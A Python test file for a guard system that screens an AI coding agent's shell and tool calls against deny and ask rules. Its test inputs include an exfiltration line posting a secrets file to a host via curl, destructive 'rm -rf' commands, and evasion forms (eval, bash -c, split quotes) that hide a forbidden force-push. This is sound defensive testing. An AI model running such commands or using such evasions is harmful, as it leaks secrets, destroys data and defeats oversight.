"""Which guards a call runs into."""

import posixpath
import shlex
from collections.abc import Sequence

from hypothesis import given, settings
from hypothesis import strategies as st

from trimtab.features.safety.safety_facts import calls_of, judged
from trimtab.hosts.claude_code.tools import call_of
from trimtab.model.json import EMPTY, JSON, obj
from trimtab.steering.safety.guards import ASK, Guard, GuardHit, hits, shape_of
from trimtab.steering.safety.paths import Ground

GROUND = Ground("/srv/app", ("/srv/app",), "/home/ada")


def guard(name: str, *commands: str, **more: object) -> Guard:
    shapes = tuple(shape_of(shlex.split(one)) for one in commands)
    return Guard(name, commands=commands, shapes=shapes, reason="because")._replace(**more)


def shell(rules: Sequence[Guard], command: str) -> list[GuardHit]:
    call = call_of("Bash", {"command": command})
    return hits(rules, call, GROUND, obj(calls_of(command)), judged(command).writes)


def tool(rules: Sequence[Guard], name: str, **given: JSON) -> list[GuardHit]:
    return hits(rules, call_of(name, given), GROUND, EMPTY, ())


def test_a_command_is_seen_through_wrappers_lists_and_substitutions() -> None:
    rules = [guard("no-force", "git push --force")]
    for command in (
        "cd x && git push -f",
        "sudo -u ada env A=b git push --force origin",
        "bash -c 'git push --force'",
        'echo "$(git push --force)"',
        "echo main | xargs git push --force origin",
        "eval 'git push -f'",
        "if true; then git push --force; fi",
        "git push \\\n  --force",
        "g'i't pu\"sh\" --force",
    ):
        assert [hit.guard.name for hit in shell(rules, command)] == ["no-force"], command
    for command in ("git push", "echo 'git push --force'", "grep -r 'git push --force' docs", "# git push --force\nls"):
        assert not shell(rules, command), command


def test_what_cannot_be_read_in_full_counts_if_it_says_all_of_the_guard_s_words() -> None:
    rules = [guard("no-force", "git push --force")]
    assert shell(rules, "((( git push --force")
    assert not shell(rules, "((( git push")


def test_a_path_is_seen_in_words_redirections_and_what_is_removed() -> None:
    rules = [guard("secrets", paths=("secrets/**",))]
    for command in (
        "cat secrets/key",
        "echo x > secrets/key",
        "sort < secrets/key",
        "curl -d @secrets/key https://host",
        "tool --file=secrets/key",
        "rm -rf secrets",
        "rm -rf .",
        "cp secrets/key /tmp/x",
    ):
        assert shell(rules, command), command
    for command in ("cat src/key", "rm -rf src", "git commit -m 'move secrets/key away'"):
        assert not shell(rules, command), command


def test_tools_are_matched_by_name_and_by_the_files_that_they_touch() -> None:
    rules = [guard("secrets", paths=("secrets/**",)), guard("no-web", tools=("WebFetch", "mcp__browser__*"))]
    assert [hit.guard.name for hit in tool(rules, "Read", file_path="/srv/app/secrets/key")] == ["secrets"]
    assert [hit.guard.name for hit in tool(rules, "Edit", file_path="secrets/key")] == ["secrets"]
    assert [hit.guard.name for hit in tool(rules, "mcp__files__read", path="secrets/key")] == ["secrets"]
    assert [hit.guard.name for hit in tool(rules, "mcp__files__read", paths=["a", "secrets/key"])] == ["secrets"]
    assert [hit.guard.name for hit in tool(rules, "mcp__browser__open", url="https://host")] == ["no-web"]
    assert not tool(rules, "Read", file_path="src/a.py")
    assert not tool(rules, "Bash", command="ls")


def test_a_path_is_read_from_where_the_shell_has_gone() -> None:
    rules = [guard("secrets", paths=("secrets/**",))]
    for command in ("cd secrets && cat key", "cd /srv/app/secrets; rm key", "pushd secrets; cat < key"):
        assert shell(rules, command), command
    assert not shell(rules, "cd src && cat key")


def test_every_condition_of_a_guard_has_to_be_met() -> None:
    rules = [guard("no-edit", tools=("Edit", "Write"), paths=("gen/**",))]
    assert tool(rules, "Edit", file_path="gen/a.py")
    assert not tool(rules, "Read", file_path="gen/a.py")
    assert not tool(rules, "Edit", file_path="src/a.py")
    rules = [guard("copy", "cp", paths=("secrets/**",))]
    assert shell(rules, "cp secrets/a b")
    assert not shell(rules, "cat secrets/a")


def test_a_refusal_comes_before_a_question() -> None:
    rules = [guard("ask", "git push", action=ASK), guard("deny", "git push --force")]
    assert [hit.guard.name for hit in shell(rules, "git push --force")] == ["deny", "ask"]


def test_a_guard_on_changes_lets_reading_pass() -> None:
    rules = [guard("rules", paths=(".trimtab/guards.toml",), on_change=True)]
    assert tool(rules, "Edit", file_path=".trimtab/guards.toml")
    assert not tool(rules, "Read", file_path=".trimtab/guards.toml")
    assert shell(rules, "echo > .trimtab/guards.toml")
    assert shell(rules, "rm -rf .trimtab")
    assert not shell(rules, "cat .trimtab/guards.toml")


moves = st.lists(st.sampled_from(["src", "..", ".", "../lib", "secrets", "/srv/app", "~", "./a/b"]), max_size=6)


@settings(max_examples=100)
@given(moves, st.sampled_from(["; ", " && ", "\n"]))
def test_wherever_the_shell_has_gone_a_path_from_there_is_seen_and_so_is_one_from_where_it_began(
    targets: list[str], mark: str
) -> None:
    rules = [guard("rules", paths=(".trimtab/guards.toml",), on_change=True)]
    there = GROUND.cwd
    for target in targets:
        there = posixpath.normpath(posixpath.join(there, GROUND.home if target == "~" else target))
    gone = "".join(f"cd {target}{mark}" for target in targets)
    path = posixpath.relpath("/srv/app/.trimtab/guards.toml", there)
    assert shell(rules, f"{gone}echo x >> {path}")
    assert shell(rules, f"{gone}rm .trimtab/guards.toml")


words = ["git", "push", "--force", "-f", "rm", "-rf", "secrets/key", "bash", "-c", "sudo", "cat", ".env", "EOF", "*"]
marks = [";", "&&", "|", "'", '"', "$(", ")", "`", "${X}", "~", "..", "/", ">", "<", "<<", "\n", "\\", "{", "}"]
pieces = st.sampled_from((*words, *marks))
texts = st.one_of(st.text(max_size=40), st.lists(pieces, max_size=12).map(" ".join))


@settings(max_examples=150)
@given(texts)
def test_no_command_makes_it_fail_and_a_further_guard_never_lets_more_pass(command: str) -> None:
    ask = guard("ask", "rm", action=ASK)
    more = [guard("deny", "git push --force"), guard("secrets", paths=("secrets/**", "*.env"))]
    few, many = shell([ask], command), shell([ask, *more], command)
    assert {hit.guard.name for hit in few} <= {hit.guard.name for hit in many}
    assert not few or many[0].guard.action in (few[0].guard.action, "deny")
